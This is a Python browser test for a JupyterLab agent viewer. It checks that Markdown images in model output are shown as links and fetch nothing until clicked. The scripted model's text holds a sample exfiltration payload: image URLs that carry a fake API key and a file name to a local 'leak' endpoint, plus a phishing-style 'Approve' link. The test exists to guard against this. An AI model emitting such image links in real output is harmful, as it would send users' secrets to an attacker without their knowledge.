"""The live view fetches nothing by itself (headless Debian Chromium in JupyterLab, playwright): a run
whose model text and answer hold Markdown images pointing at a local HTTP server that records every
request shows each image as a link naming its host, and the server hears nothing until the reader
clicks one. Each test runs in the light and the dark theme (the ``lab`` fixture)."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.notebook.support import BROWSER_MARKS, Lab, open_and_run_all, write_notebook

pytestmark = BROWSER_MARKS


class Recorder(BaseHTTPRequestHandler):
    """Answers every GET with a 1x1 GIF and records its path (the server's ``requests``)."""

    GIF = (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )

    def do_GET(self) -> None:
        self.server.requests.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.send_header("Content-Length", str(len(self.GIF)))
        self.end_headers()
        self.wfile.write(self.GIF)

    def log_message(self, format: str, *args: Any) -> None:  # quiet
        pass


@pytest.fixture
def recorder() -> Iterator[Any]:
    """An HTTP server on 127.0.0.1 that records the path of every request it gets (``.requests``)."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    server.requests = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


AGENT_CELL = '''
import loom_nb as loom

LEAK = "http://127.0.0.1:PORT/leak?data=API_KEY_sk-live-123&file=salaries.xlsx"

@loom.tool
def read_file(path: str) -> str:
    """Read a file."""
    return "name,salary\\nana,100"

def respond(request):
    if not any(m.role == "tool" for m in request.messages):
        return loom.ModelResponse.tool_calls(
            [("read_file", {"path": "salaries.xlsx"})],
            text=f"Reading it. ![chart]({LEAK}&at=turn) [Approve](http://127.0.0.1:PORT/phish)",
        )
    return loom.ModelResponse.text(f"Done.\\n\\n![summary]({LEAK}&at=answer)")

agent = loom.Agent(model=loom.ScriptedModel(respond), tools=[read_file], name="reader")
'''


def test_markdown_images_in_model_text_fetch_nothing_until_clicked(
    lab: Lab, browser: Any, recorder: Any, tmp_path: Path
) -> None:
    from playwright.sync_api import expect

    url, root, theme = lab
    port = recorder.server_address[1]
    host = f"127.0.0.1:{port}"
    setup = f"import os\nos.environ['LOOM_JOURNAL'] = {str(tmp_path / 'leak.duckdb')!r}\n%load_ext loom_nb"
    write_notebook(root, "leak.ipynb", [setup, AGENT_CELL.replace("PORT", str(port)), "run = agent.start('Sum up')"])
    page = browser.new_page(viewport={"width": 1200, "height": 900})
    try:
        open_and_run_all(page, f"{url}/lab/tree/leak.ipynb?reset", theme)
        expect(page.locator(".loom-run-status")).to_contain_text("completed", timeout=60_000)
        expect(page.locator(".loom-answer")).to_contain_text("Done.", timeout=30_000)
        time.sleep(2.0)  # anything the page would load by itself has had time to arrive
        assert recorder.requests == [], recorder.requests
        assert page.locator(f"img[src*='{host}']").count() == 0
        answer_image = page.locator(".loom-answer .loom-image")
        expect(answer_image).to_have_text(f"[image: summary · {host}]")
        turn_image = page.locator(".loom-turn-text .loom-image", has_text="chart")
        expect(turn_image).to_have_text(f"[image: chart · {host}]")
        expect(page.locator(".loom-turn-text").first).to_contain_text(f"Approve (→ {host})")
        # the reader's click opens the image (a new tab): the server hears that, and only that
        with page.context.expect_page() as opened:
            answer_image.click()
        opened.value.wait_for_load_state()
        deadline = time.monotonic() + 10
        while not recorder.requests and time.monotonic() < deadline:
            time.sleep(0.1)
        assert [p for p in recorder.requests if p.startswith("/leak")] == [
            "/leak?data=API_KEY_sk-live-123&file=salaries.xlsx&at=answer"
        ]
        opened.value.close()
    finally:
        page.close()
